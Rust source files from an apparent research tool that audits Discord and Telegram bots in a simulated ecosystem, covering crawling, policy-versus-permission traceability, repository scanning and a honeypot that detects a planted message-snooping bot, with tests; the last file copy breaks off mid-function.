            AuditError::Store(e) => write!(f, "store error: {e}"),
            AuditError::Locate(e) => write!(f, "locator error: {e}"),
            AuditError::Interrupted { frames_written } => {
                write!(f, "run interrupted after {frames_written} durable frames")
            }
            AuditError::Saturated(r) => write!(f, "scheduler saturated: {r}"),
            AuditError::Expired {
                deadline_ms,
                late_by_ms,
            } => write!(
                f,
                "deadline {deadline_ms} ms expired in queue ({late_by_ms} ms late)"
            ),
        }
    }
}

impl std::error::Error for AuditError {
    fn source(&self) -> Option<&(dyn std::error::Error + 'static)> {
        match self {
            AuditError::Platform(e) => Some(e),
            AuditError::Net(e) => Some(e),
            AuditError::Store(e) => Some(e),
            AuditError::Locate(e) => Some(e),
            AuditError::Saturated(e) => Some(e),
            AuditError::Config { .. }
            | AuditError::Interrupted { .. }
            | AuditError::Expired { .. } => None,
        }
    }
}

impl From<sched::Rejection> for AuditError {
    fn from(e: sched::Rejection) -> AuditError {
        match e {
            sched::Rejection::DeadlineExpired {
                deadline_ms,
                late_by_ms,
            } => AuditError::Expired {
                deadline_ms,
                late_by_ms,
            },
            other => AuditError::Saturated(other),
        }
    }
}

impl From<sched::SpecError> for AuditError {
    fn from(e: sched::SpecError) -> AuditError {
        AuditError::config(e.to_string())
    }
}

impl From<PlatformError> for AuditError {
    fn from(e: PlatformError) -> AuditError {
        AuditError::Platform(e)
    }
}

impl From<NetError> for AuditError {
    fn from(e: NetError) -> AuditError {
        AuditError::Net(e)
    }
}

impl From<StoreError> for AuditError {
    fn from(e: StoreError) -> AuditError {
        AuditError::Store(e)
    }
}

impl From<LocateError> for AuditError {
    fn from(e: LocateError) -> AuditError {
        AuditError::Locate(e)
    }
}

impl From<ResumeError> for AuditError {
    fn from(e: ResumeError) -> AuditError {
        match e {
            ResumeError::Interrupted { frames_written } => {
                AuditError::Interrupted { frames_written }
            }
            ResumeError::Store(e) => AuditError::Store(e),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_source_error_converts_and_keeps_its_kind() {
        let cases: Vec<(AuditError, ErrorKind)> = vec![
            (AuditError::config("bad"), ErrorKind::Config),
            (PlatformError::NotAMember.into(), ErrorKind::Platform),
            (
                NetError::DnsFailure { host: "x".into() }.into(),
                ErrorKind::Net,
            ),
            (StoreError::Interrupted.into(), ErrorKind::Store),
            (
                LocateError::InvalidLocator { reason: "y".into() }.into(),
                ErrorKind::Locate,
            ),
            (
                ResumeError::Interrupted { frames_written: 7 }.into(),
                ErrorKind::Interrupted,
            ),
            (
                sched::Rejection::QueueFull { capacity: 4 }.into(),
                ErrorKind::Saturated,
            ),
            (
                sched::Rejection::DeadlineExpired {
                    deadline_ms: 100,
                    late_by_ms: 7,
                }
                .into(),
                ErrorKind::Expired,
            ),
            (
                sched::SpecError::ZeroWeight { tenant: "t".into() }.into(),
                ErrorKind::Config,
            ),
        ];
        for (err, kind) in cases {
            assert_eq!(err.kind(), kind, "{err}");
        }
    }

    #[test]
    fn resume_store_failures_map_to_store_kind() {
        let err: AuditError = ResumeError::Store(StoreError::Interrupted).into();
        assert_eq!(err.kind(), ErrorKind::Store);
    }

    #[test]
    fn interrupted_preserves_frame_count() {
        let err: AuditError = ResumeError::Interrupted { frames_written: 42 }.into();
        match err {
            AuditError::Interrupted { frames_written } => assert_eq!(frames_written, 42),
            other => panic!("wrong variant: {other}"),
        }
    }

    #[test]
    fn expired_rejections_become_typed_expired_errors() {
        let err: AuditError = sched::Rejection::DeadlineExpired {
            deadline_ms: 400,
            late_by_ms: 50,
        }
        .into();
        match &err {
            AuditError::Expired {
                deadline_ms,
                late_by_ms,
            } => {
                assert_eq!(*deadline_ms, 400);
                assert_eq!(*late_by_ms, 50);
            }
            other => panic!("wrong variant: {other}"),
        }
        assert_eq!(err.kind().as_str(), "expired");
        assert_eq!(
            err.to_string(),
            "deadline 400 ms expired in queue (50 ms late)"
        );
    }

    #[test]
    fn display_is_prefixed_by_layer() {
        assert!(AuditError::config("no bots")
            .to_string()
            .contains("invalid audit configuration"));
        let net: AuditError = NetError::DnsFailure { host: "h".into() }.into();
        assert!(net.to_string().starts_with("network error:"));
    }
}
