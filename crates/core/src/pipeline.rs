//! Stage orchestration.
//!
//! Stage 1 (data collection) shards inside [`crawl_listing`]. Stages 2 and
//! 3 (traceability + code analysis) run here on a claim-counter worker
//! pool: each worker owns its HTTP client, repeatedly claims the next
//! unprocessed bot, and writes the audited result into that bot's slot, so
//! output order — and therefore the serialized report — is independent of
//! scheduling. Workers share a [`LinkCache`] and an [`AnalysisMemo`], so
//! repeated GitHub links and boilerplate policies are resolved/scanned once
//! across the whole population.

use codeanal::github::LinkOutcome;
use codeanal::scanner::{scan_repository, ScanReport};
use codeanal::{Language, LinkCache, ScannerKernelStats};
use crawler::crawl::{crawl_listing_traced, resolve_workers, CrawlConfig, CrawlStats, CrawledBot};
use honeypot::campaign::{BotUnderTest, Campaign, CampaignConfig, CampaignReport, GuildSnapshot};
use honeypot::DiscordSubstrate;
use netsim::client::{ClientConfig, HttpClient};
use netsim::Network;
use obs::{Obs, Span};
use parking_lot::Mutex;
use platform::PlatformKind;
use policy::{AnalysisMemo, KeywordOntology, OntologyKernelStats, TraceabilityReport};
use serde::{Deserialize, Serialize};
use std::sync::atomic::{AtomicUsize, Ordering};
use synth::Ecosystem;
use telegram_sim::TelegramSubstrate;

/// How a scraped GitHub link resolved.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum LinkResolution {
    /// A repository whose contents were downloaded.
    ValidRepo,
    /// A profile page with repositories.
    UserProfile,
    /// A profile with no public repos.
    NoPublicRepos,
    /// Dead or malformed.
    Invalid,
}

/// Code-analysis output for one bot.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct CodeFinding {
    /// Link resolution class.
    pub resolution: LinkResolution,
    /// The repository's main language (valid repos only).
    pub language: Option<Language>,
    /// Whether the repo contains any recognizable source code.
    pub has_source: bool,
    /// The scanner's verdict (valid repos only).
    pub performs_checks: Option<bool>,
    /// Raw scan report.
    pub scan: Option<ScanReport>,
}

/// One bot after the static stages.
#[derive(Debug, Clone)]
pub struct AuditedBot {
    /// Crawl output (attributes + invite status + policy document).
    pub crawled: CrawledBot,
    /// Traceability analyzer output.
    pub traceability: TraceabilityReport,
    /// Code analysis output (None when no GitHub link was listed).
    pub code: Option<CodeFinding>,
}

impl AuditedBot {
    /// The permission names the install page requests (valid invites only).
    pub fn requested_permission_names(&self) -> Vec<&'static str> {
        self.crawled.invite_status.permission_names()
    }
}

/// Record one bot's deterministic analysis outcome on its trace span. Only
/// content-derived facts (pinned equal across worker counts by the
/// parallel-vs-serial tests) may appear here.
pub(crate) fn trace_audited(span: &Span, audited: &AuditedBot) {
    if audited.crawled.policy.is_some() {
        span.record("policy", 1);
    }
    if let Some(code) = &audited.code {
        span.record("code", 1);
        if code.resolution == LinkResolution::ValidRepo {
            span.record("valid_repo", 1);
        }
    }
}

/// Pipeline configuration.
#[derive(Debug, Clone)]
pub struct AuditConfig {
    /// Data-collection parameters.
    pub crawl: CrawlConfig,
    /// Keyword ontology for the traceability stage.
    pub ontology: KeywordOntology,
    /// Honeypot parameters.
    pub honeypot: CampaignConfig,
    /// How many most-voted bots the honeypot samples (paper: 500).
    pub honeypot_sample: usize,
    /// Analysis workers for stages 2/3: 1 = serial, N = a claim-counter
    /// pool of N, 0 = one per available core. Output is identical to the
    /// serial pipeline regardless of the setting.
    pub workers: usize,
}

impl Default for AuditConfig {
    fn default() -> Self {
        AuditConfig {
            crawl: CrawlConfig::default(),
            ontology: KeywordOntology::standard(),
            honeypot: CampaignConfig::default(),
            honeypot_sample: 50,
            workers: 1,
        }
    }
}

/// Full pipeline output.
#[derive(Debug)]
pub struct AuditReport {
    /// The substrate the audited world was mounted on.
    pub platform: PlatformKind,
    /// Every bot that made it through data collection.
    pub bots: Vec<AuditedBot>,
    /// Crawl statistics.
    pub crawl_stats: CrawlStats,
    /// Honeypot campaign report (when the stage ran).
    pub honeypot: Option<CampaignReport>,
}

/// The pipeline.
pub struct AuditPipeline {
    pub(crate) config: AuditConfig,
    pub(crate) obs: Obs,
}

impl AuditPipeline {
    /// A pipeline with the given configuration and observability disabled
    /// (metrics stay live on the default registry; spans cost a null check).
    pub fn new(config: AuditConfig) -> AuditPipeline {
        AuditPipeline::with_obs(config, Obs::disabled())
    }

    /// A pipeline whose stages report into `obs`: every run opens a
    /// `static` / `dynamic` root span and publishes `crawl.*`,
    /// `analysis.*`, `policy.*`, `code.*`, `store.*`, and `honeypot.*`
    /// metrics into its registry.
    pub fn with_obs(config: AuditConfig, obs: Obs) -> AuditPipeline {
        AuditPipeline { config, obs }
    }

    /// This pipeline's observability handle (for reading metrics after a
    /// run, or logging alongside it).
    pub fn obs(&self) -> &Obs {
        &self.obs
    }

    /// Stage 2 + 3 for one bot: traceability against the requested
    /// permissions, then code analysis through the shared caches.
    pub(crate) fn audit_one(
        &self,
        bot: CrawledBot,
        gh_client: &mut HttpClient,
        links: &LinkCache,
        memo: &AnalysisMemo,
    ) -> AuditedBot {
        // Stage 2: traceability — compare the policy (if any) against
        // the permissions the install page requests.
        let requested = bot.invite_status.permission_names();
        let traceability = memo.analyze(bot.policy.as_ref(), &requested, &self.config.ontology);

        // Stage 3: code analysis.
        let code = bot
            .scraped
            .github
            .as_deref()
            .map(|link| match links.resolve(gh_client, link) {
                LinkOutcome::ValidRepo(repo) => {
                    let scan = scan_repository(&repo);
                    CodeFinding {
                        resolution: LinkResolution::ValidRepo,
                        language: repo.main_language(),
                        has_source: repo.has_source_code(),
                        performs_checks: Some(scan.performs_checks()),
                        scan: Some(scan),
                    }
                }
                LinkOutcome::UserProfile => CodeFinding {
                    resolution: LinkResolution::UserProfile,
                    language: None,
                    has_source: false,
                    performs_checks: None,
                    scan: None,
                },
                LinkOutcome::NoPublicRepos => CodeFinding {
                    resolution: LinkResolution::NoPublicRepos,
                    language: None,
                    has_source: false,
                    performs_checks: None,
                    scan: None,
                },
                LinkOutcome::Invalid => CodeFinding {
                    resolution: LinkResolution::Invalid,
                    language: None,
                    has_source: false,
                    performs_checks: None,
                    scan: None,
                },
            });

        AuditedBot {
            crawled: bot,
            traceability,
            code,
        }
    }

    pub(crate) fn analysis_client(&self, net: &Network) -> HttpClient {
        // Stages 2 & 3 use a plain client (no listing-site defenses on
        // GitHub in this world; politeness still applies).
        HttpClient::new(
            net.clone(),
            ClientConfig {
                politeness: None,
                ..ClientConfig::crawler("code-analysis/1.0")
            },
        )
    }

    /// Run data collection + traceability + code analysis against a
    /// mounted world.
    ///
    /// Opens a `static` root span on the pipeline's [`Obs`]: the crawl
    /// traces under it (per-page / per-detail children), and the analysis
    /// pool adds one `worker` child per pool worker with per-bot `bot`
    /// children keyed by listing index. Worker spans merge in the canonical
    /// trace, so the dump is byte-identical at any worker count.
    /// Memoization and kernel counters land in the registry under
    /// `analysis.*`, `policy.*`, and `code.*`.
    pub fn run_static_stages(&self, net: &Network) -> (Vec<AuditedBot>, CrawlStats) {
        let root = self.obs.span("static");

        // Stage 1: data collection.
        let (crawled, stats) = crawl_listing_traced(net, &self.config.crawl, &self.obs, &root);

        // Kernel counters are cumulative (per ontology instance / process-
        // wide for the scanner), so snapshot before and publish deltas.
        let policy_before = self.config.ontology.kernel_stats();
        let code_before = codeanal::scanner_kernel_stats();

        let links = LinkCache::new();
        let memo = AnalysisMemo::new();
        let workers = resolve_workers(self.config.workers);

        let analysis_span = root.child("analysis");
        let bots = if workers <= 1 || crawled.len() <= 1 {
            // The serial path still opens one `worker` span so its trace
            // merges byte-identically with a pooled run's worker spans.
            let worker_span = analysis_span.child("worker");
            let mut gh_client = self.analysis_client(net);
            let bots: Vec<AuditedBot> = crawled
                .into_iter()
                .enumerate()
                .map(|(idx, bot)| {
                    let bot_span = worker_span.child_keyed("bot", idx as u64);
                    let audited = self.audit_one(bot, &mut gh_client, &links, &memo);
                    trace_audited(&bot_span, &audited);
                    audited
                })
                .collect();
            worker_span.record("bots", bots.len() as u64);
            bots
        } else {
            // Claim-counter pool: each worker owns a client and repeatedly
            // claims the next unclaimed bot, so fast bots (no GitHub link,
            // no policy) don't leave a statically-assigned worker idle
            // while another grinds through repo downloads.
            let jobs: Vec<Mutex<Option<CrawledBot>>> =
                crawled.into_iter().map(|b| Mutex::new(Some(b))).collect();
            let slots: Vec<Mutex<Option<AuditedBot>>> =
                (0..jobs.len()).map(|_| Mutex::new(None)).collect();
            let next = AtomicUsize::new(0);
            crossbeam::thread::scope(|s| {
                for _ in 0..workers.min(jobs.len()) {
                    let (jobs, slots, next) = (&jobs, &slots, &next);
                    let (links, memo) = (&links, &memo);
                    let analysis_span = &analysis_span;
                    s.spawn(move |_| {
                        let worker_span = analysis_span.child("worker");
                        let mut processed = 0u64;
                        let mut gh_client = self.analysis_client(net);
                        loop {
                            let idx = next.fetch_add(1, Ordering::Relaxed);
                            if idx >= jobs.len() {
                                break;
                            }
                            let bot = jobs[idx].lock().take().expect("job claimed once");
                            let bot_span = worker_span.child_keyed("bot", idx as u64);
                            let audited = self.audit_one(bot, &mut gh_client, links, memo);
                            trace_audited(&bot_span, &audited);
                            processed += 1;
                            *slots[idx].lock() = Some(audited);
                        }
                        worker_span.record("bots", processed);
                    });
                }
            })
            .expect("analysis scope");
            slots
                .into_iter()
                .map(|slot| slot.into_inner().expect("every slot filled"))
                .collect()
        };
        drop(analysis_span);

        self.publish_analysis_metrics(&links, &memo, policy_before, code_before);
        (bots, stats)
    }

    /// Mirror the shared-cache and kernel counters from one analysis run
    /// into the registry. Hit/miss *splits* race under a pool (two workers
    /// may both miss a cold key) but sums are invariant — which is why
    /// these live in metrics and never on canonical spans.
    pub(crate) fn publish_analysis_metrics(
        &self,
        links: &LinkCache,
        memo: &AnalysisMemo,
        policy_before: OntologyKernelStats,
        code_before: ScannerKernelStats,
    ) {
        let policy_after = self.config.ontology.kernel_stats();
        let code_after = codeanal::scanner_kernel_stats();
        let obs = &self.obs;
        obs.counter("analysis.link_cache.hits").add(links.hits());
        obs.counter("analysis.link_cache.misses")
            .add(links.misses());
        obs.counter("analysis.policy_memo.hits").add(memo.hits());
        obs.counter("analysis.policy_memo.misses")
            .add(memo.misses());
        obs.gauge("policy.automaton_states")
            .set(policy_after.automaton_states as i64);
        obs.counter("policy.scan_passes")
            .add(policy_after.scans - policy_before.scans);
        obs.counter("policy.bytes_scanned")
            .add(policy_after.bytes_scanned - policy_before.bytes_scanned);
        obs.gauge("code.automaton_states")
            .set(code_after.automaton_states as i64);
        obs.counter("code.scan_passes")
            .add(code_after.scans - code_before.scans);
        obs.counter("code.bytes_scanned")
            .add(code_after.bytes_scanned - code_before.bytes_scanned);
    }

    /// Run the dynamic stage against the ecosystem's most-voted testable
    /// bots (§4.2 sampled the most-voted population because the rest were
    /// "mainly offline or not being used").
    ///
    /// Opens a `dynamic` root span on the pipeline's [`Obs`]; the campaign
    /// traces under it with per-guild children and `honeypot.*` metrics.
    pub fn run_honeypot(&self, eco: &Ecosystem) -> CampaignReport {
        self.run_honeypot_with_reuse(eco, &std::collections::BTreeMap::new())
            .0
    }

    /// The honeypot sample, each bot paired with its behaviour-class name.
    /// The class name joins the bot's name and rendered invite URL as the
    /// identity a cached guild transcript is keyed on — together they are
    /// exactly the inputs that shape the guild's phase-2 transcript, so any
    /// drift that could change the campaign's observation (a behaviour
    /// flip, a permission-creeped invite) moves the key.
    pub(crate) fn honeypot_sample(
        &self,
        eco: &Ecosystem,
    ) -> Vec<(BotUnderTest<DiscordSubstrate>, String)> {
        eco.most_voted_testable(self.config.honeypot_sample)
            .into_iter()
            .map(|(truth, invite, bot_user, behavior)| {
                let class = format!("{:?}", truth.behavior);
                (
                    BotUnderTest {
                        name: truth.name,
                        client_id: truth.client_id,
                        bot_user: bot_user.0.raw(),
                        invite: invite.to_url().to_string(),
                        behavior,
                    },
                    class,
                )
            })
            .collect()
    }

    /// The Telegram twin of [`Self::honeypot_sample`]: same most-voted
    /// ordering, deep links instead of OAuth URLs, `TgBehavior` backends.
    pub(crate) fn honeypot_sample_telegram(
        &self,
        eco: &Ecosystem,
    ) -> Vec<(BotUnderTest<TelegramSubstrate>, String)> {
        eco.most_voted_testable_telegram(self.config.honeypot_sample)
            .into_iter()
            .map(|(truth, link, actor, behavior)| {
                let class = format!("{:?}", truth.behavior);
                (
                    BotUnderTest {
                        name: truth.name,
                        client_id: truth.client_id,
                        bot_user: actor,
                        invite: link,
                        behavior,
                    },
                    class,
                )
            })
            .collect()
    }

    /// The `(name, invite, class)` identity triple of every sampled bot, in
    /// sample order, regardless of substrate. This is what guild-transcript
    /// cache keys are built from — the resume layer never needs the
    /// substrate-specific behaviour boxes, only the identities.
    pub(crate) fn honeypot_identities(&self, eco: &Ecosystem) -> Vec<(String, String, String)> {
        match eco.kind {
            PlatformKind::Discord => self
                .honeypot_sample(eco)
                .into_iter()
                .map(|(but, class)| (but.name, but.invite, class))
                .collect(),
            PlatformKind::Telegram => self
                .honeypot_sample_telegram(eco)
                .into_iter()
                .map(|(but, class)| (but.name, but.invite, class))
                .collect(),
        }
    }

    /// [`Self::run_honeypot`] with prior-run guild transcripts attached:
    /// bots named in `reuse` are set up but never re-driven, and the
    /// returned snapshots (one per tested bot) feed the next re-audit.
    /// Dispatches on the ecosystem's substrate: the same generic campaign
    /// drives Discord OAuth installs or Telegram deep links.
    pub fn run_honeypot_with_reuse(
        &self,
        eco: &Ecosystem,
        reuse: &std::collections::BTreeMap<String, GuildSnapshot>,
    ) -> (CampaignReport, Vec<GuildSnapshot>) {
        let root = self.obs.span("dynamic");
        match eco.kind {
            PlatformKind::Discord => {
                let substrate = DiscordSubstrate::new(eco.platform.clone(), eco.net.clone());
                let mut campaign = Campaign::new(substrate, self.config.honeypot.clone());
                let bots: Vec<BotUnderTest<DiscordSubstrate>> = self
                    .honeypot_sample(eco)
                    .into_iter()
                    .map(|(but, _)| but)
                    .collect();
                campaign.run_traced_with_reuse(bots, &self.obs, &root, reuse)
            }
            PlatformKind::Telegram => {
                let tg = eco
                    .telegram
                    .as_ref()
                    .expect("a Telegram world carries its substrate")
                    .clone();
                let substrate = TelegramSubstrate::new(tg, eco.net.clone());
                let mut campaign = Campaign::new(substrate, self.config.honeypot.clone());
                let bots: Vec<BotUnderTest<TelegramSubstrate>> = self
                    .honeypot_sample_telegram(eco)
                    .into_iter()
                    .map(|(but, _)| but)
                    .collect();
                campaign.run_traced_with_reuse(bots, &self.obs, &root, reuse)
            }
        }
    }

    /// Run everything.
    pub fn run_full(&self, eco: &Ecosystem) -> AuditReport {
        let (bots, crawl_stats) = self.run_static_stages(&eco.net);
        let honeypot = Some(self.run_honeypot(eco));
        AuditReport {
            platform: eco.kind,
            bots,
            crawl_stats,
            honeypot,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use synth::{build_ecosystem, EcosystemConfig};

    fn small_world() -> Ecosystem {
        build_ecosystem(&EcosystemConfig::test_scale(120, 77))
    }

    #[test]
    fn static_stages_cover_every_listing() {
        let eco = small_world();
        let pipeline = AuditPipeline::new(AuditConfig::default());
        let (bots, stats) = pipeline.run_static_stages(&eco.net);
        assert_eq!(bots.len(), 120);
        assert_eq!(stats.bots, 120);
        // Some bots have code findings, some don't — matching the planted
        // github fraction.
        let with_links = bots.iter().filter(|b| b.code.is_some()).count();
        let planted = eco
            .truth
            .bots
            .iter()
            .filter(|b| b.github_class != synth::GithubClass::None)
            .count();
        assert_eq!(with_links, planted);
    }

    #[test]
    fn valid_fraction_recovered_through_the_noise() {
        let eco = small_world();
        let pipeline = AuditPipeline::new(AuditConfig::default());
        let (bots, _) = pipeline.run_static_stages(&eco.net);
        let measured_valid = bots
            .iter()
            .filter(|b| b.crawled.invite_status.is_valid())
            .count();
        let planted_valid = eco.truth.valid_bots().count();
        assert_eq!(measured_valid, planted_valid);
    }

    #[test]
    fn honeypot_stage_detects_planted_snooper() {
        let eco = small_world();
        let pipeline = AuditPipeline::new(AuditConfig {
            honeypot_sample: 25,
            ..AuditConfig::default()
        });
        let report = pipeline.run_honeypot(&eco);
        assert_eq!(report.bots_tested, 25);
        // Melonian ranks in the top 25 by construction (planted among the
        // most-voted).
        assert_eq!(report.detections.len(), 1);
        assert_eq!(report.detections[0].bot_name, "Melonian");
    }

    #[test]
    fn least_privilege_delivery_starves_the_snooper() {
        // Baseline: the planted snooper sees the decoy feed, triggers, and
        // is attributed (the paper's Melonian case).
        let eco = small_world();
        let pipeline = AuditPipeline::new(AuditConfig {
            honeypot_sample: 25,
            ..AuditConfig::default()
        });
        let baseline = pipeline.run_honeypot(&eco);
        assert_eq!(baseline.detections.len(), 1);

        // Mitigated world: same seed, but bot backends only receive
        // messages that mention them or match a registered command. The
        // decoy feed never reaches the snooper, its trigger count never
        // fills, and the threat surface disappears.
        let eco = build_ecosystem(&EcosystemConfig {
            least_privilege_delivery: true,
            ..EcosystemConfig::test_scale(120, 77)
        });
        assert!(eco.platform.least_privilege_delivery());
        let pipeline = AuditPipeline::new(AuditConfig {
            honeypot_sample: 25,
            ..AuditConfig::default()
        });
        let mitigated = pipeline.run_honeypot(&eco);
        assert_eq!(mitigated.bots_tested, 25, "campaign still runs end to end");
        assert!(
            mitigated.detections.is_empty(),
            "per-message least privilege must starve the history snooper"
        );
        assert!(
            mitigated.triggers.is_empty(),
            "no canary should fire when bots cannot see the feed"
        );
    }

    #[test]
    fn full_run_produces_complete_report() {
        let eco = small_world();
        let pipeline = AuditPipeline::new(AuditConfig {
            honeypot_sample: 10,
            ..AuditConfig::default()
        });
        let report = pipeline.run_full(&eco);
        assert_eq!(report.bots.len(), 120);
        assert!(report.honeypot.is_some());
        assert!(report.crawl_stats.pages > 0);
    }

    /// The registry counters one static-stage run publishes, read back as a
    /// comparable tuple. Each pipeline owns a fresh [`Obs`], so values are
    /// per-run without delta bookkeeping.
    fn cache_counters(p: &AuditPipeline) -> (u64, u64, u64, u64) {
        let obs = p.obs();
        (
            obs.counter_value("analysis.link_cache.hits"),
            obs.counter_value("analysis.link_cache.misses"),
            obs.counter_value("analysis.policy_memo.hits"),
            obs.counter_value("analysis.policy_memo.misses"),
        )
    }

    #[test]
    fn parallel_static_stages_match_serial() {
        let shape = |workers: usize| {
            let eco = small_world();
            let pipeline = AuditPipeline::new(AuditConfig {
                workers,
                ..AuditConfig::default()
            });
            let (bots, _) = pipeline.run_static_stages(&eco.net);
            let rows: Vec<_> = bots
                .iter()
                .map(|b| {
                    (
                        b.crawled.scraped.id,
                        b.crawled.invite_status.clone(),
                        b.traceability.clone(),
                        b.code
                            .as_ref()
                            .map(|c| (c.resolution, c.language.clone(), c.performs_checks)),
                    )
                })
                .collect();
            (rows, pipeline)
        };
        let (serial_rows, serial) = shape(1);
        let (lh, lm, ph, pm) = cache_counters(&serial);
        for workers in [2, 4] {
            let (rows, pipeline) = shape(workers);
            assert_eq!(rows, serial_rows, "workers={workers}");
            // Racing workers may both miss the same cold key, so parallel
            // runs can trade a few hits for misses — never lose lookups.
            let (wlh, wlm, wph, wpm) = cache_counters(&pipeline);
            assert_eq!(wlh + wlm, lh + lm, "workers={workers}");
            assert_eq!(wph + wpm, ph + pm, "workers={workers}");
        }
        assert!(lm > 0);
        assert!(pm > 0);
        // Kernel counters: the keyword automaton ran, the fused scanner fed
        // stripped bytes through the needle automaton, and both automata
        // were actually compiled.
        let obs = serial.obs();
        assert!(obs.gauge_value("policy.automaton_states") > 0);
        assert!(obs.counter_value("policy.scan_passes") > 0);
        assert!(obs.counter_value("policy.bytes_scanned") > 0);
        assert!(obs.gauge_value("code.automaton_states") > 0);
        assert!(obs.counter_value("code.scan_passes") > 0);
        assert!(obs.counter_value("code.bytes_scanned") > 0);
    }

    #[test]
    fn requested_permission_names_only_for_valid() {
        let eco = small_world();
        let pipeline = AuditPipeline::new(AuditConfig::default());
        let (bots, _) = pipeline.run_static_stages(&eco.net);
        for bot in &bots {
            let names = bot.requested_permission_names();
            if bot.crawled.invite_status.is_valid() {
                assert!(!names.is_empty());
            } else {
                assert!(names.is_empty());
            }
        }
    }
}
