//! Stage orchestration.
//!
//! Stage 1 (data collection) shards inside [`crawl_listing`]. Stages 2 and
//! 3 (traceability + code analysis) run here on a claim-counter worker
//! pool: each worker owns its HTTP client, repeatedly claims the next
//! unprocessed bot, and writes the audited result into that bot's slot, so
//! output order — and therefore the serialized report — is independent of
//! scheduling. Workers share a [`LinkCache`] and an [`AnalysisMemo`], so
//! repeated GitHub links and boilerplate policies are resolved/scanned once
//! across the whole population.

use codeanal::github::LinkOutcome;
use codeanal::scanner::{scan_repository, ScanReport};
use codeanal::{Language, LinkCache};
use crawler::crawl::{crawl_listing, resolve_workers, CrawlConfig, CrawlStats, CrawledBot};
use honeypot::campaign::{BotUnderTest, Campaign, CampaignConfig, CampaignReport};
use netsim::client::{ClientConfig, HttpClient};
use netsim::Network;
use parking_lot::Mutex;
use policy::{AnalysisMemo, KeywordOntology, TraceabilityReport};
use serde::{Deserialize, Serialize};
use std::sync::atomic::{AtomicUsize, Ordering};
use synth::Ecosystem;

/// How a scraped GitHub link resolved.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum LinkResolution {
    /// A repository whose contents were downloaded.
    ValidRepo,
    /// A profile page with repositories.
    UserProfile,
    /// A profile with no public repos.
    NoPublicRepos,
    /// Dead or malformed.
    Invalid,
}

/// Code-analysis output for one bot.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct CodeFinding {
    /// Link resolution class.
    pub resolution: LinkResolution,
    /// The repository's main language (valid repos only).
    pub language: Option<Language>,
    /// Whether the repo contains any recognizable source code.
    pub has_source: bool,
    /// The scanner's verdict (valid repos only).
    pub performs_checks: Option<bool>,
    /// Raw scan report.
    pub scan: Option<ScanReport>,
}

/// One bot after the static stages.
#[derive(Debug, Clone)]
pub struct AuditedBot {
    /// Crawl output (attributes + invite status + policy document).
    pub crawled: CrawledBot,
    /// Traceability analyzer output.
    pub traceability: TraceabilityReport,
    /// Code analysis output (None when no GitHub link was listed).
    pub code: Option<CodeFinding>,
}

impl AuditedBot {
    /// The permission names the install page requests (valid invites only).
    pub fn requested_permission_names(&self) -> Vec<&'static str> {
        self.crawled.invite_status.permission_names()
    }
}

/// Pipeline configuration.
#[derive(Debug, Clone)]
pub struct AuditConfig {
    /// Data-collection parameters.
    pub crawl: CrawlConfig,
    /// Keyword ontology for the traceability stage.
    pub ontology: KeywordOntology,
    /// Honeypot parameters.
    pub honeypot: CampaignConfig,
    /// How many most-voted bots the honeypot samples (paper: 500).
    pub honeypot_sample: usize,
    /// Analysis workers for stages 2/3: 1 = serial, N = a claim-counter
    /// pool of N, 0 = one per available core. Output is identical to the
    /// serial pipeline regardless of the setting.
    pub workers: usize,
}

impl Default for AuditConfig {
    fn default() -> Self {
        AuditConfig {
            crawl: CrawlConfig::default(),
            ontology: KeywordOntology::standard(),
            honeypot: CampaignConfig::default(),
            honeypot_sample: 50,
            workers: 1,
        }
    }
}

/// Memoization and kernel counters from one static-stage run.
#[derive(Debug, Clone, Copy, Default, Serialize)]
pub struct StageStats {
    /// GitHub link resolutions served from the shared [`LinkCache`].
    pub link_cache_hits: u64,
    /// GitHub link resolutions that scraped the simulated site.
    pub link_cache_misses: u64,
    /// Policy analyses served from the shared [`AnalysisMemo`].
    pub policy_memo_hits: u64,
    /// Policy analyses that ran the keyword scan.
    pub policy_memo_misses: u64,
    /// DFA states in the compiled keyword-ontology automaton.
    pub policy_automaton_states: u64,
    /// Keyword-automaton passes over policy text during this run.
    pub policy_scan_passes: u64,
    /// Policy-text bytes the keyword automaton consumed during this run.
    pub policy_bytes_scanned: u64,
    /// DFA states in the Table 3 needle automaton.
    pub code_automaton_states: u64,
    /// Fused strip+match passes (one per scanned source file) this run.
    pub code_scan_passes: u64,
    /// Stripped-code bytes fed through the needle automaton this run.
    pub code_bytes_scanned: u64,
    /// Journal frames durably written by this run (resumable runs only).
    pub journal_frames_written: u64,
    /// Journal frames replayed from a previous run (resumable runs only).
    pub journal_frames_replayed: u64,
    /// Analysis artifacts served from the content-addressed cache.
    pub artifact_cache_hits: u64,
    /// Analysis artifacts computed and stored (cache misses).
    pub artifact_cache_misses: u64,
}

/// Full pipeline output.
#[derive(Debug)]
pub struct AuditReport {
    /// Every bot that made it through data collection.
    pub bots: Vec<AuditedBot>,
    /// Crawl statistics.
    pub crawl_stats: CrawlStats,
    /// Honeypot campaign report (when the stage ran).
    pub honeypot: Option<CampaignReport>,
}

/// The pipeline.
pub struct AuditPipeline {
    pub(crate) config: AuditConfig,
}

impl AuditPipeline {
    /// A pipeline with the given configuration.
    pub fn new(config: AuditConfig) -> AuditPipeline {
        AuditPipeline { config }
    }

    /// Stage 2 + 3 for one bot: traceability against the requested
    /// permissions, then code analysis through the shared caches.
    pub(crate) fn audit_one(
        &self,
        bot: CrawledBot,
        gh_client: &mut HttpClient,
        links: &LinkCache,
        memo: &AnalysisMemo,
    ) -> AuditedBot {
        // Stage 2: traceability — compare the policy (if any) against
        // the permissions the install page requests.
        let requested = bot.invite_status.permission_names();
        let traceability = memo.analyze(bot.policy.as_ref(), &requested, &self.config.ontology);

        // Stage 3: code analysis.
        let code = bot
            .scraped
            .github
            .as_deref()
            .map(|link| match links.resolve(gh_client, link) {
                LinkOutcome::ValidRepo(repo) => {
                    let scan = scan_repository(&repo);
                    CodeFinding {
                        resolution: LinkResolution::ValidRepo,
                        language: repo.main_language(),
                        has_source: repo.has_source_code(),
                        performs_checks: Some(scan.performs_checks()),
                        scan: Some(scan),
                    }
                }
                LinkOutcome::UserProfile => CodeFinding {
                    resolution: LinkResolution::UserProfile,
                    language: None,
